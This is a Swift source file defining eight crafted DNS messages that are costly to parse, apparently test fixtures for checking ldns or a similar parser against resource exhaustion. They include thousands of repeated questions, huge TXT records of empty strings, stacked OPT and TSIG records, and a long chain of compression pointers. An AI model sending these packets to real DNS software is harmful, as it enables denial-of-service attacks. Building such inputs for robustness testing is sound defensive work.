/// Packets that are too large for files: each is one message that costs ldns a thousand times what it costs to send.
struct HostilePacket: Sendable, CustomStringConvertible {
    let description: String
    let octets: [UInt8]

    private static let question: [UInt8] = [0, 0, 1, 0, 1]

    static let all: [HostilePacket] = [
        HostilePacket("13,104 root questions", counts: [13_104, 0, 0, 0], body: repeated(question, 13_104)),
        HostilePacket("800 root questions", counts: [800, 0, 0, 0], body: repeated(question, 800)),
        HostilePacket("TXT of 65,484 empty strings in the answer", counts: [1, 1, 0, 0], body: question + emptyStrings(65_484)),
        HostilePacket("TXT of 65,484 empty strings in additional", counts: [1, 0, 0, 1], body: question + emptyStrings(65_484)),
        HostilePacket("TXT of 4,000 empty strings in the answer", counts: [1, 1, 0, 0], body: question + emptyStrings(4_000)),
        HostilePacket("256 OPT records", counts: [1, 0, 0, 256], body: question + repeated(opt, 256)),
        HostilePacket("60 TSIG records", counts: [1, 0, 0, 60], body: question + repeated(tsig, 60)),
        HostilePacket("4,096 records owned by a chain of 8,179 pointers", counts: [1, 4_096, 0, 0], body: pointerChain),
    ]

    private init(_ description: String, counts: [Int], body: [UInt8]) {
        self.description = description
        octets = [0x12, 0x34, 0x01, 0x00] + counts.flatMap(Self.octets(of:)) + body
    }

    private static let opt: [UInt8] = [0, 0, 41, 4, 208, 0, 0, 0, 0, 0, 0]
    private static let tsig: [UInt8] = [0, 0, 250, 0, 255, 0, 0, 0, 0, 0, 0]

    private static func emptyStrings(_ count: Int) -> [UInt8] {
        [0, 0, 16, 0, 1, 0, 0, 0, 0] + octets(of: count) + repeated([0], count)
    }

    /// The question's name is the chain's first link; every pointer leads to the one before it.
    private static var pointerChain: [UInt8] {
        let chain = (0..<8_179).flatMap { octets(of: 0xC000 | (12 + 2 * max(0, $0 - 1))) }
        let record: [UInt8] = [0xFF, 0xFF, 0, 1, 0, 1, 0, 0, 0, 0, 0, 0]
        return chain + repeated(record, 4_096)
    }

    private static func octets(of number: Int) -> [UInt8] {
        [UInt8(truncatingIfNeeded: number >> 8), UInt8(truncatingIfNeeded: number)]
    }

    private static func repeated(_ octets: [UInt8], _ count: Int) -> [UInt8] {
        repeatElement(octets, count: count).flatMap(\.self)
    }
}
